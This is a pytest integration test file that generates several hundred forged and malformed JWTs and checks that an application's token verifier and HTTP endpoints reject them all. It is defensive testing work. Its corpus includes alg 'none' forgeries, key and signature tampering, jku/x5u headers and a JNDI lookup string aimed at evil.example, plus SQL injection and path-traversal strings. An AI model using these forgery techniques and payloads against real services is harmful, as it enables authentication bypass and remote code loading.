"""More than two hundred tokens that are none: refused everywhere, and nothing breaks."""

from __future__ import annotations

import asyncio
import base64
import hashlib
import hmac
import json
import time
from typing import TYPE_CHECKING, Any

import jwt
import pytest

from inkstand.accounts.keys import parse_keys
from inkstand.accounts.model import Scope
from inkstand.errors import InvalidTokenError

if TYPE_CHECKING:
    from collections.abc import Iterator

pytestmark = pytest.mark.integration
Site = Any
SECRET = "0123456789abcdef" * 2
OTHER = "fedcba9876543210" * 2
KID = parse_keys(SECRET)[0].id
NEVER = 9_999_999_999
CLASSIC = (400, '{"error": "Token is invalid"}')
ALPHABET = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"


def encode(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).decode().rstrip("=")


def write(value: Any) -> str:
    return encode(value if isinstance(value, bytes) else json.dumps(value).encode())


def sign(header: Any, claims: Any, secret: str = SECRET, digest: str = "sha256") -> str:
    """A token with a right signature of whatever is in it."""
    text = f"{write(header)}.{write(claims)}"
    return f"{text}.{encode(hmac.digest(secret.encode(), text.encode(), digest))}"


GOOD = {"alg": "HS256", "typ": "JWT", "kid": KID}
EXTRAS: tuple[dict[str, Any], ...] = (
    {"crit": ["exp"]},
    {"b64": False},
    {"zip": "DEF"},
    {"jku": "https://evil.example/jwks"},
    {"x5u": "https://evil.example/x5u"},
    {"jwk": {"kty": "oct", "k": encode(OTHER.encode())}},
    {"cty": "JWT"},
    {"a": 1},
)
NO_OBJECTS: tuple[Any, ...] = ([], "text", 7, None, True, {}, b"", b"{", b"\xff\xfe", b"[" * 3000)
ENDS = (-1, 1, time.time() - 1, str(int(time.time()) - 5), "tomorrow", "inf", "nan", -1e300, 1e400)


def by_algorithm(claims: dict[str, Any]) -> Iterator[str]:
    """Tokens with good claims, and a header that names another algorithm."""
    for algorithm in ("none", "None", "NONE", "nOnE", "", "hs256", "HS256 ", "RS256", "ES256"):
        yield sign({**GOOD, "alg": algorithm}, claims)
        yield f"{write({**GOOD, 'alg': algorithm})}.{write(claims)}."
    for algorithm, digest in (("HS384", "sha384"), ("HS512", "sha512")):
        yield sign({**GOOD, "alg": algorithm}, claims, digest=digest)
        yield sign(GOOD, claims, digest=digest)


def by_header(claims: dict[str, Any]) -> Iterator[str]:
    """Tokens with good claims, and a header that says something else."""
    changes: list[dict[str, Any]]
    changes = [{name: value} for name in GOOD for value in (None, 7, True, ["HS256"], {"HS256": 1})]
    names = ("", "0" * 8, KID.upper(), KID + "0", "../../dev/null", "' OR 1=1 --", "\ud800")
    changes += [{"kid": name} for name in names]
    changes += [{"typ": kind} for kind in ("at+jwt", "JWE", "jwt", "JWS", "")]
    yield from (sign({**GOOD, **change}, claims) for change in (*changes, *EXTRAS))
    for name in GOOD:
        yield sign({key: value for key, value in GOOD.items() if key != name}, claims)
    yield from (sign(header, claims) for header in NO_OBJECTS)
    yield sign(b'{"alg":"HS256","typ":"JWT","kid":"%s","kid":"x"}' % KID.encode(), claims)


def by_claims(claims: dict[str, Any]) -> Iterator[str]:
    """Tokens with a good header and signature, and claims that say something else."""
    number = claims["jti"]
    changes: list[dict[str, Any]] = [
        {name: value}
        for name in ("sub", "exp", "jti")
        for value in (None, "", 0, True, [], {}, ["john"], {"john": 1}, "\ud800")
    ]
    users = ("jane", "JOHN", "john ", "john\x00", "\uff4aohn", 7)
    changes += [{"sub": user} for user in users]
    changes += [{"jti": other} for other in ("0" * 16, number + "x", number + " ", number[:-1])]
    changes += [{"exp": end} for end in ENDS]
    changes += [{"nbf": NEVER}, {"nbf": "x"}, {"aud": "device"}, {"aud": ["a"]}, {"aud": 7}]
    yield from (sign(GOOD, {**claims, **change}) for change in changes)
    for name in ("sub", "exp", "jti"):
        yield sign(GOOD, {key: value for key, value in claims.items() if key != name})
    yield from (sign(GOOD, body) for body in NO_OBJECTS)
    yield sign(GOOD, b'{"exp":NaN,"sub":"john","jti":"%s"}' % number.encode())
    yield sign(GOOD, b'{"exp":Infinity,"sub":"john","jti":"%s","exp":1}' % number.encode())


def by_key(claims: dict[str, Any]) -> Iterator[str]:
    """Tokens that somebody else signed."""
    keys = (OTHER, "", "secret", SECRET[:-1], SECRET + "\n", SECRET.upper(), KID, "\x00" * 32)
    for key in keys:
        name = hashlib.sha256(key.encode()).hexdigest()[:8]
        yield sign(GOOD, claims, secret=key)
        yield sign({**GOOD, "kid": name}, claims, secret=key)
    yield jwt.encode(claims, "", "none", headers={"kid": KID})


def by_damage(good: str) -> Iterator[str]:
    """A good token, damaged."""
    head, body, signature = good.split(".")
    for length in (1, 2, 3, 10, 40, 43, len(good) // 2, len(good) - 1):
        yield good[:-length]
        yield good[length:]
    for position in range(0, len(good), 7):
        letter = "A" if good[position] != "A" else "B"
        yield good[:position] + letter + good[position + 1 :]
    # The same bytes, written in another way.
    last = ALPHABET.index(signature[-1])
    yield from (good[:-1] + ALPHABET[last ^ bits] for bits in (1, 2, 3))
    yield from (good + end for end in ("=", "==", "!", "\t!", "A", "AAAA", ".", "..", ".x", "%00"))
    yield f"{head}.{body}=.{signature}"
    yield f"{head}.{body}.{signature[:10]}!{signature[10:]}"
    yield from (f"{head}.{body}.", f"{head}..{signature}", f".{body}.{signature}", f"{head}.{body}")
    yield from (f"{body}.{head}.{signature}", f"{head}.{head}.{signature}", good.replace(".", ""))
    yield from (good.swapcase(), good.upper(), good[::-1], f".{good}", f"{good},{good}")
    yield f"{good} {good}"
    yield f"{head}.{body}.{body}.{body}.{signature}"
    yield json.dumps({"protected": head, "payload": body, "signature": signature})


WORDS = [
    ".",
    "..",
    "...",
    "a.b.c",
    "ZZZ.ZZZ.ZZZ",
    "null",
    "undefined",
    "Bearer",
    "Bearer ",
    "bearer  .",
    "Basic am9objpwYXNzd29yZA==",
    "Digest username=john",
    "Negotiate YII=",
    "Token abc",
    "\u00e4\u00f6\u00fc.\u00df.\u00e9",
    "\N{GRINNING FACE}.\N{GRINNING FACE}.\N{GRINNING FACE}",
    "\u202e.\u202e.\u202e",
    "' OR '1'='1",
    "${jndi:ldap://evil.example/a}",
    "../../etc/passwd",
    "%s%s%s%n",
    "A" * 4000,
    "." * 4000,
    "A.B." * 1000,
    "W1tbW1tb" * 480 + ".e30.x",
]


def corpus(good: str) -> list[str]:
    claims = jwt.decode(good, options={"verify_signature": False})
    makers = (by_algorithm, by_header, by_claims, by_key)
    made = [token for make in makers for token in make(claims)]
    return list(dict.fromkeys([*made, *by_damage(good), *WORDS]))


@pytest.fixture
async def good(site: Site) -> str:
    """A token that is good, of which the bad ones are made."""
    issued = await site.system.accounts.create("good", Scope.ADMIN, None)
    assert site.system.accounts.verify(issued.token)
    return str(issued.token)


async def test_the_corpus_is_large_and_made_of_what_would_be_good(good: str) -> None:
    tokens = corpus(good)
    assert len(tokens) >= 200
    assert good not in tokens


async def test_what_the_corpus_is_made_with_makes_good_tokens_too(site: Site, good: str) -> None:
    """Else it would be refused for the wrong reason."""
    claims = jwt.decode(good, options={"verify_signature": False})
    again = sign(GOOD, claims)
    assert site.system.accounts.verify(again).token_id == claims["jti"]


async def test_no_bad_token_is_accepted_by_the_accounts(site: Site, good: str) -> None:
    for token in corpus(good):
        with pytest.raises(InvalidTokenError):
            site.system.accounts.verify(token)


async def test_no_bad_token_opens_a_door(
    site: Site, good: str, caplog: pytest.LogCaptureFixture
) -> None:
    """The new API says 401, the old one what it said in 2017; nothing breaks."""
    refused = 0
    for token in corpus(good):
        for prefix in ("", "Bearer "):
            headers = {"Authorization": prefix + token}
            try:
                answer = await site.client.get("/api/v1/panel", headers=headers)
            except ValueError:
                continue  # the client does not send it; the next test does
            assert answer.status == 401, token
            assert answer.headers["WWW-Authenticate"] == "Bearer"
            assert (await answer.json(content_type="application/problem+json"))["status"] == 401
            for method, path in (("GET", "/"), ("POST", "/messages"), ("POST", "/login")):
                answer = await site.client.request(method, path, headers=headers)
                assert (answer.status, await answer.text()) == CLASSIC, token
            refused += 1
    assert refused >= 400
    assert not caplog.records


async def test_no_bad_token_is_a_session(site: Site, good: str) -> None:
    for token in corpus(good):
        if not token.isascii() or not token.isprintable():
            continue
        headers = {"Cookie": f"inkstand={token}", "Sec-Fetch-Site": "same-origin"}
        answer = await site.client.get("/api/v1/panel", headers=headers)
        assert answer.status in (200, 401), token
        # A cookie ends where a semicolon or a comma does.
        assert answer.status == 401 or token.startswith(good), token


RAW = [
    b"\xff\xfe.\x80.\x81",
    b"\xc3\x28.\xa0\xa1.\xe2\x28\xa1",
    b"Bearer \xed\xa0\x80.\xed\xa0\x80.\xed\xa0\x80",
    b"\xf0\x9f\x98\x80.\xf0\x9f\x98\x80.x",
    b"Bearer\ta.b.c",
]


@pytest.mark.parametrize("raw", RAW, ids=range(len(RAW)))
async def test_bytes_that_are_no_text_are_refused(site: Site, raw: bytes) -> None:
    for path, status in ((b"/", 400), (b"/api/v1/panel", 401)):
        head, _, body = (await send(site, path, raw)).partition(b"\r\n\r\n")
        assert head.startswith(b"HTTP/1.0 %d " % status)
        assert (path != b"/") or body == CLASSIC[1].encode()


@pytest.mark.parametrize(
    "raw", [b"a\x00b", b"A" * 9000, b"A" * 300_000, b"\x01\x02", b"a\rb"], ids=range(5)
)
async def test_what_is_no_header_is_refused_by_the_server_itself(site: Site, raw: bytes) -> None:
    answer = await send(site, b"/api/v1/panel", raw)
    assert answer.startswith((b"HTTP/1.0 400 ", b"HTTP/1.0 401 ", b"HTTP/1.1 400 "))


async def test_two_tokens_are_not_better_than_one(site: Site, good: str) -> None:
    lines = b"\r\nAuthorization: ".join((b"a.b.c", good.encode()))
    assert (await send(site, b"/api/v1/panel", lines)).startswith(b"HTTP/1.0 401 ")


async def send(site: Site, path: bytes, authorization: bytes) -> bytes:
    reader, writer = await asyncio.open_connection("127.0.0.1", site.client.server.port)
    writer.write(b"GET %s HTTP/1.0\r\nHost: a\r\nAuthorization: %s\r\n\r\n" % (path, authorization))
    try:
        return await reader.read()
    finally:
        writer.close()
